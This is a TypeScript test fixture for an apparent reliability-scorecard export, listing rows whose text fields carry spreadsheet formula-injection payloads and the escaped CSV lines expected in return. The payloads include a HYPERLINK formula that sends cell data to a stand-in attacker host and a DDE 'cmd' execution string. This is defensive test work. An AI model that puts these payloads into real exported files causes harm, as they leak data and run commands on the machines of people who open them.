import { ScorecardRow } from '@reliability-suite/plugin-reliability-common';
import { row } from './scorecardRows';

/**
 * Scorecard rows whose entity and user texts a spreadsheet would run as formulas: each text
 * column starts with one of `=`, `+`, `-`, `@`, tab, carriage return or a full-width form; the
 * budget left is negative, which must stay a number. The first one's last evaluation failed.
 */
export const formulaRows: ScorecardRow[] = [
  row('formulas', {
    title: '=HYPERLINK("https://evil.example.com/?"&A1,"Click")',
    tier: 1,
    owner: '+group:default/payments',
    system: '-2+3',
    domain: '@SUM(A1:A9)',
    lifecycle: '\tproduction',
    onCall: "\r=cmd|' /C calc'!A0",
    runbookCount: 1,
    sloCount: 2,
    slosMeetingTarget: 1,
    slosMeasured: 2,
    attainment: 0.5,
    budgetRemaining: -12.5,
    maxBurnRate: 14.4,
    budgetStatus: 'burning_fast',
    policyState: 'red',
    readinessScore: 0.25,
    missing: ['onCall', 'runbooks'],
    measuredAt: Date.parse('2026-11-24T09:00:00Z'),
    degraded: true,
  }),
  row('full-width', {
    title: '＝1+1',
    owner: '＋1',
    system: '－1',
    domain: '＠A1',
    lifecycle: 'pro=duction',
    onCall: 'PagerDuty -1',
    budgetRemaining: -0.000001,
    maxBurnRate: -1,
  }),
];

/** The export lines of `formulaRows`, as a spreadsheet must receive them. */
export const formulaRowLines = [
  'component:default/formulas,"\'=HYPERLINK(""https://evil.example.com/?""&A1,""Click"")",1,\'+group:default/payments,\'-2+3,\'@SUM(A1:A9),\'\tproduction,"\'\r=cmd|\' /C calc\'!A0",1,2,0.5,-12.5,14.4,burning_fast,red,0.25,,onCall runbooks\n',
  "component:default/full-width,'＝1+1,,'＋1,'－1,'＠A1,pro=duction,PagerDuty -1,0,0,,-0.000001,-1,no_data,nodata,,,\n",
];

/**
 * The exported lines of `formulaRows` (tiers named `Tier <level>`): the stored line, then the tier's
 * name, when the figures were measured (ISO 8601, UTC; empty when never), whether they are stale,
 * its SLOs meeting target and measured, and its SLOs with alerts not deployed (empty: not audited).
 */
export const formulaRowExportLines = [
  `${formulaRowLines[0].slice(
    0,
    -1,
  )},Tier 1,2026-11-24T09:00:00.000Z,true,1,2,\n`,
  `${formulaRowLines[1].slice(0, -1)},,,false,0,0,\n`,
];
